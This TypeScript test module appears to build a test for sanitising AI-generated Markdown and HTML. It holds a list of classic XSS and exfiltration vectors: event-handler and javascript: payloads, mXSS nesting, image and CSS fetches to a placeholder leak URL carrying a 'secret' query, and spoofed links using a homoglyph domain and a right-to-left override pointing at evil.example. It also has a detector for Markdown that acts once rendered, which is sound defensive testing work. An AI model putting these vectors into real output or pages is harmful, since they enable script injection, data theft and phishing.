/**
 * A compact list of classic XSS and exfiltration vectors, in the spirit of DOMPurify's own test
 * list (its npm package ships none), for model output that tries to run, fetch or hide where a
 * link goes. `LEAK` is replaced by a URL whose every hit the test server logs; `window.__pwned`
 * set to anything means a script ran.
 */
import { Lexer, marked, type Token } from 'marked';

export const XSS_VECTORS: readonly string[] = [
  '<script>window.__pwned = 1</script>',
  '<img src=LEAK?v=img onerror="window.__pwned = 2">',
  '<svg onload="window.__pwned = 3"><circle r=1></svg>',
  '<iframe src="javascript:parent.__pwned = 4"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned = 5</script>"></iframe>',
  '<a href="javascript:window.__pwned = 6">html link</a>',
  '<math><mtext><table><mglyph><style><img src=LEAK?v=mxss onerror="window.__pwned = 7">',
  '<details open ontoggle="window.__pwned = 8">x</details>',
  '<body onload="window.__pwned = 9">',
  '<object data="LEAK?v=object"></object>',
  '<embed src="LEAK?v=embed">',
  '<link rel=stylesheet href="LEAK?v=css">',
  '<style>@import "LEAK?v=import"; body { background: url(LEAK?v=bg) }</style>',
  '<video poster=LEAK?v=poster><source onerror="window.__pwned = 10"></video>',
  '<form action="javascript:window.__pwned = 11"><button>go</button></form>',
  '<input autofocus onfocus="window.__pwned = 12">',
  '<div style="background:url(LEAK?v=style)">styled</div>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned = 13">',
  '<base href="LEAK/">',
  '<noscript><p title="</noscript><img src=LEAK?v=noscript onerror=window.__pwned=14>">',
  '![remote image](LEAK?v=md-image&q=secret)',
  '![ref image][img]\n\n[img]: LEAK?v=ref-image',
  '[md link](javascript:window.__pwned=15)',
  '[data link](data:text/html,<script>parent.__pwned=16</script>)',
  '[vbscript](vbscript:msgbox(1))',
  '<javascript:window.__pwned=17>',
  '[![image in link](LEAK?v=nested)](javascript:window.__pwned=18)',
  '[your bank](https://pаypal.com/login)',
  '[https://\u202Emoc.elpmaxe\u202C](https://evil.example/x)',
];

/** The vectors with LEAK pointed at `leak`, as one Markdown answer. */
export function hostileAnswer(leak: string): string {
  return XSS_VECTORS.map((vector) => vector.replaceAll('LEAK', leak)).join('\n\n');
}

/** What in this Markdown would act once rendered where it is pasted: images, raw HTML, links that are not http(s). */
export function actingMarkdown(markdown: string): string[] {
  const found: string[] = [];
  marked.walkTokens(Lexer.lex(markdown, { gfm: true }) as Token[], (token) => {
    if (token.type === 'html' || token.type === 'image') found.push(`${token.type}: ${token.raw}`);
    if (token.type === 'link' && !/^https?:/i.test(token.href)) found.push(`link: ${token.href}`);
  });
  return found;
}
